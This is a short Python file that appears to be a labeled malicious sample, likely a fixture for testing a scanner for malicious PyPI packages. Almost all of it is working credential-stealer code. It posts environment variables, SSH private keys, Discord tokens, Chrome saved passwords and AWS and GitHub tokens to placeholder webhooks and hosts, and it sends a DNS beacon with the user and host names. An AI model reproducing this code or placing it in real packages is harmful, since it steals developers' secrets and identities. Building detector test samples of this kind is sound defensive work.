# ruff: noqa
"""Sends the user's secrets and the machine's identity to the author.

Techniques from published analyses of malicious PyPI packages: environment dumps
posted to Discord webhooks (Phylum, "PyPI packages steal environment variables",
2022-2023), ~/.ssh and ~/.aws uploads (Sonatype and Checkmarx reports on
credential stealers), host and user names sent as DNS labels to out-of-band
servers (the "dependency confusion" beacons described by Alex Birsan, 2021), and
Discord token grabbers reading `Local Storage/leveldb` (JFrog, Snyk, 2021-2022).
"""
import base64
import getpass
import json
import os
import platform
import socket
import sqlite3
import urllib.request
from pathlib import Path

import requests

HOOK = "https://discord.com/api/webhooks/1093/AbCdEf"
STOLEN = json.dumps(dict(os.environ))


def env_dump():
    requests.post(HOOK, json={"content": STOLEN}, timeout=5)  # attack: MB323


def ssh_key():
    blob = base64.b64encode((Path.home() / ".ssh" / "id_rsa").read_bytes())
    urllib.request.urlopen("https://example.org/k", data=blob, timeout=5)  # attack: MB323


def beacon():
    label = f"{getpass.getuser()}-{socket.gethostname()}-{platform.node()}"
    socket.gethostbyname(label + ".oast.example")  # attack: MB323


def _send(payload):
    s = socket.socket()
    s.connect(("198.51.100.7", 443))
    s.sendall(payload.encode())  # attack: MB323


def relay():
    _send(str(os.environ.copy()))


def tokens():
    found = []
    root = os.path.join(os.getenv("APPDATA", ""), "discord", "Local Storage", "leveldb")
    for name in os.listdir(root):
        with open(os.path.join(root, name), errors="ignore") as handle:
            found.append(handle.read())
    requests.post(HOOK, data={"tokens": "\n".join(found)}, timeout=5)  # attack: MB323


def passwords():
    db = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
    rows = sqlite3.connect(db).execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    requests.post("https://example.org/p", json=rows, timeout=5)  # attack: MB323


def harvest():
    keys = {name: os.environ.get(name) for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GITHUB_TOKEN")}
    requests.post("https://example.org/h", json=keys, timeout=5)  # attack: MB323
